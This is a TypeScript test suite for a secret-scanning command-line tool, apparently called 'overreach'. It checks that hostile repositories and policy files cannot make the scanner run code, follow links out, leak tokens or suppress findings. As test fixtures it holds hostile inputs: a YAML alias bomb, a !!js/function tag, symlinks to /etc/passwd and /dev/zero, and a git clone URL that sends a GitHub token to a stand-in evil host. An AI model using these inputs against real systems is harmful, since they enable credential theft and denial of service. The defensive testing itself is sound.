import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fixtures, serveEveryone } from '../../fixtures/everything.ts';
import { accessKeyId } from '../../fixtures/aws/keys.ts';
import { type Hostile, hostile, inside } from '../../fixtures/hostile/index.ts';
import { mint } from '../mint.ts';
import { overreach, type Ran, type RunOptions } from '../run.ts';
import { tree } from '../tree.ts';

const fingerprintOf = (token: string) => createHash('sha256').update(token).digest('hex').slice(0, 16);

/** Controls, and marks that turn the direction of text or cannot be seen. */
const unsafe =
  /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u061C\u180E\u200B\u200E\u200F\u2028-\u202E\u2060-\u206F\uFEFF\u{E0000}-\u{E007F}]/u;

interface Report {
  summary: { skipped: { path: string; reason: string; complete: boolean }[] };
  credentials: { provider: string; fingerprint: string; places: { path: string }[] }[];
  findings: { rule: string; fingerprint: string }[];
}

const reportOf = ({ stdout }: Ran) => JSON.parse(stdout) as Report;

describe('a hostile repository', () => {
  let here: Hostile;
  beforeAll(() => {
    here = hostile();
  });
  afterAll(() => here[Symbol.dispose]());

  /** Runs the program in it, with its own folders in front of the path, and makes sure that it did no harm. */
  async function unharmed(args: readonly string[], { env, ...options }: RunOptions = {}): Promise<Ran> {
    const path = [join(here.root, 'bin'), join(here.root, 'node_modules/.bin'), './bin', '.', '', process.env['PATH']].join(':');
    const began = performance.now();
    const ran = await overreach(args, {
      cwd: here.root,
      env: { PATH: path, AMBIENT_TOKEN: here.beyond['environment'], ...env },
      ...options,
    });
    expect(performance.now() - began).toBeLessThan(20_000);
    expect(here.ran()).toBe('');
    const said = ran.stdout + ran.stderr;
    expect(said).not.toMatch(unsafe);
    for (const [where, token] of Object.entries(here.beyond)) {
      expect(said.includes(token), where).toBe(false);
      expect(said.includes(fingerprintOf(token)), where).toBe(false);
    }
    return ran;
  }

  const surfaces = ['scan', 'scan --staged', 'scan --diff HEAD', 'scan vendor', 'scan --verbose'];
  const formats = ['terminal', 'json', 'sarif'];

  test.each(surfaces.flatMap((args) => formats.map((format) => `${args} --format ${format}`)))(
    'has nothing run, nothing followed and nothing hidden by %s',
    async (line) => {
      const { stdout, stderr, code } = await unharmed(line.split(' '));
      expect(stdout).toContain(fingerprintOf(inside));
      expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    },
  );

  test.each(['--help', 'scan --onlin', 'providers', 'explain stripe'])('has no say in what `%s` does', async (line) => {
    const { stdout, stderr, code } = await unharmed(line.split(' '), { stdin: '' });
    using elsewhere = tree();
    expect({ stdout, stderr, code }).toEqual(await overreach(line.split(' '), { cwd: elsewhere.root }));
  });

  test('has what it holds named, and what leads out or is no file too', async () => {
    const { credentials, summary } = reportOf(await unharmed(['scan', '--format', 'json']));
    const places = credentials.find(({ fingerprint }) => fingerprint === fingerprintOf(inside))?.places.map(({ path }) => path) ?? [];
    expect(places).toEqual(
      expect.arrayContaining([
        '.env.staging',
        'long.js',
        'deep.json',
        'bomb.yaml',
        'many.ts',
        'names/keys.json',
        'names/-rf',
        'vendor/lib/.env',
        'vendor/elsewhere/.env',
      ]),
    );
    const reasons = new Map(summary.skipped.map(({ path, reason, complete }) => [path, `${reason}${complete ? '' : ' (incomplete)'}`]));
    const outside = [
      'links/token.env',
      'links/folder',
      'links/twice',
      'links/absolute.env',
      'links/environ.env',
      'links/zero.env',
      'up',
      '.cursor',
      '.claude/settings.json',
    ];
    for (const path of outside) expect([path, reasons.get(path)]).toEqual([path, 'a link that leaves the root']);
    for (const path of ['pipes/config.env', 'pipes/s', '.cursorignore', 'src/refund.ts', 'README.md'])
      expect([path, reasons.get(path)]).toEqual([path, 'a special file']);
    expect([...reasons].filter(([, reason]) => reason.includes('incomplete'))).toEqual([
      [expect.stringMatching(/^d{100}\//), expect.stringContaining('path is too long')],
    ]);
  });

  test('has only its own tokens sent, only by --online, and none of the environment’s', async () => {
    await using everyone = await serveEveryone();
    await unharmed(['scan', ...everyone.endpoints]);
    expect(everyone.asked).toEqual([]);
    const { tokens } = fixtures.get('github')!;
    const aws = fixtures.get('aws')!.tokens;
    const env = {
      GITHUB_TOKEN: tokens['classic'],
      GH_TOKEN: tokens['oauth'],
      AWS_ACCESS_KEY_ID: aws['id'],
      AWS_SECRET_ACCESS_KEY: aws['secret'],
      AWS_PROFILE: 'default',
      KUBECONFIG: 'kubeconfig',
      PGPASSWORD: mint.base62('ambient', 20),
    };
    const { credentials } = reportOf(await unharmed(['scan', '--online', ...everyone.endpoints, '--format', 'json'], { env }));
    expect(credentials.map(({ provider }) => provider).sort()).toEqual(['aws', 'basic-auth-url', 'pgpass', 'postgres', 'stripe']);
    expect(new Set(everyone.asked.map(({ provider }) => provider))).toEqual(new Set(['aws', 'stripe']));
    for (const { headers } of everyone.asked) expect(headers.get('authorization')).not.toContain(aws['id']);
  });

  test('is one: git by itself runs what it brings', () => {
    here.git('ls-files');
    expect(here.ran()).toContain('tools/helper 2');
    rmSync(join(here.root, '../ran'));
  });
});

describe('a policy file in the tree', () => {
  const key = `sk_live_51${mint.base62('policy', 97)}`;
  const clean = { 'src/shop.ts': 'export const shop = 7;\n' };
  const bomb = `a: &a [x]\n${[...'bcdefghijklmnop'].map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghijklmno'[at]}`).join(', ')}]`).join('\n')}\n`;

  /** Each would change what the program does, or keep it busy, if it were followed. */
  const files: Readonly<Record<string, string | ((path: string) => void)>> = {
    'asks for the network': 'online: true\n',
    'adds hosts': 'allow-host: [127.0.0.1]\nhosts: [127.0.0.1]\n',
    'sets endpoints': 'endpoint: stripe=http://127.0.0.1:9\nendpoints: { stripe: "http://127.0.0.1:9" }\n',
    'lowers the bar': 'fail-on: never\n',
    'ignores files': 'ignore: ["**"]\nexclude: ["**"]\npaths-ignore: ["**"]\n',
    'turns rules off': 'rules: { production-loss: off, committed: off }\n',
    'loads others': 'extends: ../beyond/policy.yaml\nplugins: [./evil.cjs]\n',
    'has a key too many among good ones': `environments: { staging: staging }\nallow: [{ fingerprint: "${fingerprintOf(key)}", reason: fine }]\nonline: true\n`,
    'allows with a key too many': `allow: [{ fingerprint: "${fingerprintOf(key)}", reason: fine, paths: ["**"] }]\n`,
    'allows everything': 'allow: [{ fingerprint: "*", reason: fine }]\n',
    'has tags': 'environments: !!js/function "function () { return process.exit(0) }"\n',
    explodes: bomb,
    merges: `base: &base { fingerprint: "${fingerprintOf(key)}", reason: fine }\nallow: [{ <<: *base }]\n`,
    'is deep': `environments: ${'['.repeat(50_000)}`,
    'is no text': '\u0000\u0001\u0002',
    'is JavaScript': 'module.exports = { online: true };\n',
    'is a pipe': (path) => void execFileSync('mkfifo', [path]),
    'has no end': (path) => symlinkSync('/dev/zero', path),
    'leads out': (path) => symlinkSync('/etc/passwd', path),
    'leads nowhere': (path) => symlinkSync('missing.yaml', path),
    'is a folder': (path) => mkdirSync(path),
    'is huge': (path) => {
      execFileSync('touch', [path]);
      truncateSync(path, 6 * 2 ** 30);
    },
  };

  function lay(what: string, repository: ReturnType<typeof tree>): void {
    const file = files[what]!;
    if (typeof file === 'string') repository.write('overreach.yaml', file);
    else file(join(repository.root, 'overreach.yaml'));
  }

  test.each(Object.keys(files))('that %s is ignored whole and named, and the scan goes on', async (what) => {
    using repository = tree({ ...clean, '.env.staging': `STRIPE_SECRET_KEY=${key}\n` });
    lay(what, repository);
    await using everyone = await serveEveryone();
    const began = performance.now();
    const { stdout, stderr, code } = await overreach(['scan', '--format', 'json', ...everyone.endpoints], { cwd: repository.root });
    expect(performance.now() - began).toBeLessThan(10_000);
    expect(stderr).toMatch(/^overreach: overreach\.yaml[^\n]* ignored\.\n$/);
    expect(code).toBe(1);
    const found = JSON.parse(stdout) as Report;
    expect(found.findings.map(({ fingerprint }) => fingerprint)).toContain(fingerprintOf(key));
    expect(found).toMatchObject({ suppressed: [] });
    expect(everyone.asked).toEqual([]);
  });

  test.each(['asks for the network', 'is a pipe', 'leads out', 'explodes'])(
    'that %s makes the exit 2 where nothing else is wrong',
    async (what) => {
      using repository = tree(clean);
      lay(what, repository);
      expect((await overreach(['scan'], { cwd: repository.root })).code).toBe(2);
    },
  );

  test('of a change does not excuse it', async () => {
    using repository = tree(clean);
    repository.git('init', '-q');
    repository.git('add', '-A');
    repository.git('commit', '-qm', 'A shop');
    repository.git('checkout', '-qb', 'change');
    repository.write('.env', `STRIPE_SECRET_KEY=${key}\n`);
    repository.write('overreach.yaml', `allow:\n  - { fingerprint: "${fingerprintOf(key)}", reason: This is fine }\n`);
    repository.git('add', '-Af');
    repository.git('commit', '-qm', 'And a key, which is fine');
    const { stdout, code } = await overreach(['scan', '--diff', 'main', '--format', 'json'], { cwd: repository.root });
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      findings: expect.arrayContaining([expect.objectContaining({ rule: 'committed' })]),
      suppressed: [],
    });
  });
});

describe('what stands beside a secret in another file does not keep its provider from being asked', () => {
  const { id = '', secret = '' } = fixtures.get('aws')!.tokens;
  const { classic = '' } = fixtures.get('github')!.tokens;
  const pair = (of: string) => `AWS_ACCESS_KEY_ID=${of}\nAWS_SECRET_ACCESS_KEY=${secret}\n`;
  const bogus = (count: number) => Array.from({ length: count }, (_, index) => accessKeyId(`bogus ${index}`, '604212345671'));

  test.each<[string, Record<string, string>]>([
    ['an id that looks like a canary', { '.a.env': pair(accessKeyId('bait', '171436882533')), '.env': pair(id) }],
    ['an id that does not exist', { '.a.env': pair(bogus(1)[0]!), '.env': pair(id) }],
    ['an id that wants a session', { '.a.env': pair(accessKeyId('session', '604212345671', 'ASIA')), '.env': pair(id) }],
    ['some ids that do not exist', { ...Object.fromEntries(bogus(5).map((one) => [`.a/${one}.env`, pair(one)])), '.env': pair(id) }],
    [
      'the URL of another host',
      { '.a.sh': `git clone https://oauth2:${classic}@git.evil.example/shop.git\n`, '.env': `GITHUB_TOKEN=${classic}\n` },
    ],
  ])('%s', async (_, texts) => {
    using repository = tree(texts);
    await using everyone = await serveEveryone();
    const ran = await overreach(['scan', '--online', '--format', 'json', ...everyone.endpoints], { cwd: repository.root });
    expect(reportOf(ran).credentials).toMatchObject([{ state: 'live' }]);
    expect(ran.code).toBe(1);
  });

  test('more ids than are tried, which is said, and which leaves the scan incomplete', async () => {
    using repository = tree({ ...Object.fromEntries(bogus(30).map((one) => [`.a/${one}.env`, pair(one)])), '.env': pair(id) });
    await using everyone = await serveEveryone();
    const ran = await overreach(['scan', '--online', '--format', 'json', ...everyone.endpoints], { cwd: repository.root });
    expect(reportOf(ran)).toMatchObject({
      credentials: [
        {
          state: 'unknown',
          unknowns: expect.arrayContaining([expect.stringMatching(/stands beside 31 ids or hosts, and was tried with 8/)]),
        },
      ],
      findings: [{ rule: 'unjudged' }],
    });
    expect(ran.code).toBe(3);
    expect(everyone.asked.length).toBeLessThan(10);
  });
});

test('comments and ignore files of other tools hide nothing', async () => {
  const key = `sk_live_51${mint.base62('hidden', 97)}`;
  using repository = tree({
    '.gitignore': '*\n',
    '.overreachignore': '*\n',
    '.secretlintignore': '*\n',
    '.gitleaksignore': `${fingerprintOf(key)}\na.env:stripe:1\n`,
    '.trufflehogignore': '.*\n',
    '.gitattributes': '* binary linguist-generated\n',
    'a.env': `# overreach:ignore gitleaks:allow nosec noqa pragma: allowlist secret\n# overreach-disable-next-line\nSTRIPE_SECRET_KEY=${key} # overreach:ignore gitleaks:allow trufflehog:ignore nosec pragma: allowlist secret\n`,
  });
  repository.git('init', '-q');
  const found = reportOf(await overreach(['scan', '--format', 'json'], { cwd: repository.root }));
  expect(found.credentials).toMatchObject([{ fingerprint: fingerprintOf(key), places: [{ path: 'a.env' }] }]);
  expect(found.findings.length).toBeGreaterThan(0);
  expect(readFileSync(join(repository.root, '.gitignore'), 'utf8')).toBe('*\n');
});
